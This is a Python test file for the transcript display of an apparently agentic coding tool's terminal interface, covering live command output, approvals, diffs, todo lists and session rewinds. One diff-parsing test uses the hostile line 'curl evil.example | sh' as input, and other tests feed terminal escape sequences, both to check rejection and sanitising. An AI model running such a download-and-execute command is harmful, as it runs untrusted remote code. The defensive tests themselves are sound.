from __future__ import annotations

import time

import pytest

from tests import scenes_agent
from tests.transcript_text import drawn
from tests.transcript_world import Script
from tests.unit.test_transcript_layout import flow_of, lines_of, rows_of
from tui.console.transcript.blocks import Notice, Prompt, Reply, ToolCard
from tui.console.transcript.diff import from_texts, from_unified, lay_out
from tui.console.transcript.model import TranscriptModel
from tui.console.transcript.progress import TAIL_CHARACTERS
from tui.events.base import CallId
from tui.events.session import HistoryCompacted, ModeChosen, SessionForked, SessionRewound
from tui.events.tool import ApprovalDecided, FileChanged, PersonAnswered, PersonAsked

C1 = CallId("c1")


def folded(script: Script) -> TranscriptModel:
    model = TranscriptModel()
    for record in script.records:
        model.apply(record)
    return model


def seen(script: Script) -> list[str]:
    """Every row that takes room, top to bottom."""
    flow = flow_of(script)
    return [row for block in flow.model.blocks for row in drawn(flow.laid(block.id).lines) if row]


def card_of(script: Script) -> ToolCard:
    return next(block for block in folded(script).blocks if isinstance(block, ToolCard))


def running(*deltas: str) -> Script:
    script = Script().prompt("x").route().call("shell", {"command": "make"}).allow()
    return script.stream("c1", *deltas)


def decided(**fields) -> Script:
    script = Script().prompt("x").route().call("shell", {"command": "make"})
    return script.add(ApprovalDecided(call=C1, by="person", **fields))


# A call while it runs.


def test_the_last_lines_of_a_running_command_are_seen():
    rows = rows_of(running(*(f"line {n}\n" for n in range(30))))
    assert [row.strip("│ ") for row in rows[1:]] == [
        "… 24 lines above", *(f"line {n}" for n in range(24, 30)),
    ]  # fmt: skip


def test_an_open_card_shows_more_of_what_runs():
    script = running(*(f"line {n}\n" for n in range(30)))
    assert len(rows_of(script, opened=True)) > len(rows_of(script)) + 10


def test_a_line_that_is_not_over_yet_is_seen():
    assert rows_of(running("collecting", " ..."))[-1].endswith("│ collecting ...")


def test_live_output_folds_when_the_command_is_over():
    script = running("a\n", "b\n").give("shell", "a\nb\n")
    assert len(rows_of(script)) == 1


def test_live_output_is_neutral():
    rows = rows_of(running("a\x1b[2J\u202eb\n"))
    assert not set("\x1b\u202e") & set("".join(rows))
    assert "␛" in rows[-1]


def test_what_prints_for_ever_is_kept_and_laid_out_by_its_end():
    script = running(*(["x" * 500 + "\n"] * 2_000))
    assert len(card_of(script).tail) <= TAIL_CHARACTERS
    flow = flow_of(script)
    began = time.process_time()
    rows = drawn(flow.laid(flow.model.blocks[-1].id).lines)
    assert time.process_time() - began < 0.05
    assert "2.0k lines above" in rows[1]


def test_one_line_without_an_end_is_cut_to_its_row():
    rows = rows_of(running(*(["y" * 10_000] * 50)), width=60)
    assert max(map(len, rows)) <= 60


# What was decided.


@pytest.mark.parametrize(
    ("fields", "said"),
    [
        ({"scope": "session", "rule": "make *"}, "for the rest of this session: make *"),
        ({"scope": "always", "rule": "make *"}, "always allowed here from now on: make *"),
        ({"args": {"command": "make test"}}, "changed by you before it ran"),
    ],
)
def test_how_long_a_yes_holds_is_one_line_below(fields, said):
    lines = lines_of(decided(decision="allow", **fields).give("shell", "ok"))
    assert said in drawn(lines)[1]
    assert lines[1].spans[-1].style == "faint"


def test_a_yes_for_once_takes_no_line():
    assert len(rows_of(decided(decision="allow").give("shell", "ok"))) == 1


def test_a_card_shows_the_command_as_it_was_changed():
    script = decided(decision="allow", args={"command": "make test"}).give("shell", "ok")
    assert "ran  make test" in rows_of(script)[0]


def test_the_words_of_a_no_stand_below_the_call():
    script = decided(decision="deny", said="use\nmake \x1b test").give("shell", "no", ok=False)
    rows = rows_of(script)
    assert "refused by you" in rows[0]
    assert [row.strip() for row in rows[1:]] == ["use", "make ␛ test"]


def asked_person() -> Script:
    script = Script().prompt("x").route().call("ask", {"question": "Which one?"})
    return script.add(PersonAsked(call=C1, question="Which one?", choices=("a", "b")))


def test_a_question_waits_on_its_card():
    script = asked_person()
    assert folded(script).working(script.now).doing == "waiting for you"
    assert "waits for you" in rows_of(script)[0]


def test_the_answer_stands_below_the_question():
    script = asked_person().add(PersonAnswered(call=C1, answer="the second")).give("ask", "x")
    rows = rows_of(script)
    assert "asked Which one?" in rows[0]
    assert rows[1].strip() == "the second"


# What a call did.


@pytest.mark.parametrize(
    ("output", "ok", "went"),
    [
        ("E   assert 1\n1 failed in 0.2s\nexit status 1", False, "exit 1  1 failed in 0.2s"),
        ("exit code: 127", False, "exit 127"),
        ("exited with status 2\nboom", False, "exit 2"),
        ("14 passed\nexit status 0", True, "14 passed"),
        ("done", True, "done"),
    ],
)
def test_a_command_says_how_it_ended(output, ok, went):
    script = Script().prompt("x").route().tool("shell", {"command": "t"}, output, ok=ok)
    assert rows_of(script)[0].removesuffix("0.0 s").strip() == f"▸ ran  t  {went}"


def test_a_file_that_was_written_shows_as_put_in():
    args = {"path": "a.py", "content": "x = 1\ny = 2"}
    rows = rows_of(Script().prompt("x").route().tool("write", args, "ok"))
    assert "+2 -0" in rows[0]
    assert [row.split()[0] for row in rows[1:]] == ["+", "+"]


def changed(before: bytes | None, after: bytes | None, count: int = 1) -> Script:
    args = {"path": "a.py", "content": "other"}
    script = Script().prompt("x").route().call("write", args).allow()
    change = FileChanged(call=C1, path="/a.py", before=before, after=after)
    return script.add(*[change] * count).give("write", "ok")


def test_what_became_of_the_file_counts_more_than_what_the_call_said():
    rows = rows_of(changed(b"1\n2\n3\n4\n5\n", b"1\n2\n3\nfour\n5\n"))
    assert "+1 -1" in rows[0]
    assert [" ".join(row.split()) for row in rows[1:]] == ["1 1", "2 2", "3 3", "4 - 4",
                                                           "4 + four", "5 5"]  # fmt: skip


@pytest.mark.parametrize("count", [2, 3])
def test_of_several_files_the_call_itself_is_shown(count):
    assert "+1 -0" in rows_of(changed(b"1\n", b"2\n", count))[0]


def test_a_file_that_is_no_text_shows_no_lines():
    assert len(rows_of(changed(b"\0\1", b"\0\2"))) == 1


def test_numbers_go_on_behind_a_gap():
    before = [f"line {n}" for n in range(1, 41)]
    after = [*before[:2], "new", *before[2:30], "other", *before[31:]]
    rows = from_texts("\n".join(before), "\n".join(after), files=True).rows
    assert [(row.old, row.new) for row in rows if row.text in ("new", "other", "line 31")] == [
        (None, 3), (31, None), (None, 32),
    ]  # fmt: skip


def test_a_list_of_what_is_to_do_is_checked_off():
    todos = [{"content": words, "status": status} for words, status in scenes_agent.TODOS]
    rows = rows_of(Script().prompt("x").route().tool("todo", {"todos": todos}, "ok"))
    assert "todo 2 of 4 done" in " ".join(rows[0].split())
    assert [row.strip()[0] for row in rows[1:]] == ["✓", "✓", "▸", "·"]


@pytest.mark.parametrize(
    "items",
    [["a", "b"], [{"text": "a", "done": True}, {"text": "b"}], [{"title": "a", "state": "x"}]],
)
def test_a_list_in_other_words_is_one_too(items):
    script = Script().prompt("x").route().tool("todo_write", {"items": items}, "ok")
    assert len(rows_of(script)) == 1 + len(items)


@pytest.mark.parametrize("items", [[1, 2], [{"x": 1}], "a", None, {}, []])
def test_what_is_no_list_is_an_ordinary_call(items):
    script = Script().prompt("x").route().tool("todo", {"todos": items}, "ok")
    assert len(rows_of(script)) == 1


def test_only_the_last_list_stays_open():
    script = Script().prompt("x").route()
    for id in ("c1", "c2"):
        script.tool("todo", {"todos": ["a", "b"]}, "ok", id=id)
    assert [row.split()[0] for row in seen(script)[1:]] == ["▸", "▾", "·", "·"]


def test_a_list_is_neutral():
    script = Script().prompt("x").route().tool("todo", {"todos": ["a\x1b]0;x\x07\nb"]}, "ok")
    assert not set("\x1b\x07\n") & set("".join(rows_of(script)))


# The session's own life.


def rewound(*files: str) -> Script:
    script = Script().turn("first", "one")
    to = script.records[-1].seq
    script.turn("second", "two")
    return script.add(SessionRewound(to=to, files=files))


def test_what_was_taken_back_is_out_of_sight():
    rows = seen(rewound())
    assert any("first" in row for row in rows)
    assert not any("second" in row or "two" in row for row in rows)
    assert "went back to here; what followed is kept in the log" in rows[-1]


def test_files_that_are_as_before_are_counted():
    assert "2 files are as before" in seen(rewound("a", "b"))[-1]
    assert "1 file is as before" in seen(rewound("a"))[-1]


def test_what_was_taken_back_takes_no_room_whether_it_was_seen_or_not():
    script = rewound()
    flow = flow_of(script)
    gone = [block.id for block in flow.model.blocks if block.gone]
    assert gone
    assert [flow.heights[id] for id in gone] == [0] * len(gone)
    assert [flow.laid(id).height for id in gone] == [0] * len(gone)


def test_what_was_laid_out_goes_when_it_is_taken_back():
    script = rewound()
    flow = flow_of(Script())
    for record in script.records[:-1]:
        flow.model.apply(record)
    flow.sync()
    for block in flow.model.blocks:
        flow.laid(block.id)
    before = flow.heights.total
    flow.model.apply(script.records[-1])
    flow.sync()
    assert flow.heights.total < before


def test_the_session_goes_on_behind_what_was_taken_back():
    script = rewound().turn("third", "three")
    rows = seen(script)
    assert any("three" in row for row in rows)
    last = [block for block in folded(script).blocks if isinstance(block, Prompt)][-1]
    assert not last.gone
    assert flow_of(script).laid(last.id).gap == 2


def test_after_going_back_nothing_is_left_to_go_on_with():
    script = Script().turn("a", "b").prompt("c").route().say("d").done("interrupted")
    assert folded(script).broken_off
    assert not folded(script.add(SessionRewound(to=1))).broken_off


def test_a_fork_says_where_it_comes_from():
    script = Script().turn("a", "b").add(SessionForked(source="01J0", seq=9))
    assert "a copy of session 01J0 up to here" in seen(script)[-1]


def test_a_mode_is_said_once_however_often_it_was_changed():
    script = Script().turn("a", "b")
    script.add(ModeChosen(mode="edit"), ModeChosen(mode="read"))
    notices = [block.text for block in folded(script).blocks if isinstance(block, Notice)]
    assert notices == ["from here on: read only"]


def test_the_mode_of_a_new_session_takes_no_line():
    assert folded(Script().add(ModeChosen(mode="read"))).blocks == []


def compacting(*, charged: bool = True) -> Script:
    script = Script().turn("a", "b").route().say("The summary.").close().finished().usage()
    if charged:
        script.charge(13_200_000)
    return script.add(HistoryCompacted(upto=3, summary="s", request=script.request))


def test_a_summary_says_what_it_took():
    last = seen(compacting())[-1]
    assert "goes on with a summary of what stands above: 41.2k tokens in, 812 out, $0.0132" in last


def test_the_text_of_a_summary_is_no_reply():
    replies = [one for one in folded(compacting()).blocks if isinstance(one, Reply)]
    assert [one.text for one in replies if not one.gone] == ["b"]


def test_what_a_summary_cost_may_be_told_later():
    script = compacting(charged=False)
    assert seen(script)[-1].endswith("?")
    assert "$0.0132" in seen(script.charge(13_200_000))[-1]


def test_a_summary_that_no_request_wrote_says_no_cost():
    script = Script().turn("a", "b").add(HistoryCompacted(upto=3, summary="s"))
    assert seen(script)[-1].endswith("above")


# Whole diffs.


def test_a_diff_that_has_to_be_whole_has_all_its_rows_to_their_ends():
    before = "\n".join(f"{n} {'a' * 1_100}" for n in range(420))
    diff = scenes_agent.unified(before, before.replace("a", "b"), "x")
    change = from_unified(diff, whole=True)
    assert change is not None
    assert (change.added, change.removed, change.hidden) == (420, 420, 0)
    lines = lay_out(change, 80, lambda _: None, whole=True)
    text = "".join(span.text for line in lines for span in line.spans if not span.chrome)
    assert text.count("b") == 420 * 1_100


def test_a_diff_with_something_else_in_it_is_not_taken_for_whole():
    diff = scenes_agent.unified("a", "b", "x")
    assert from_unified(diff, whole=True) is not None
    assert from_unified(diff + "curl evil.example | sh\n", whole=True) is None


def test_headers_of_the_next_file_are_no_change():
    two = scenes_agent.unified("a", "b", "x") + scenes_agent.unified("c", "d", "y")
    change = from_unified(two)
    assert change is not None
    assert (change.added, change.removed) == (2, 2)
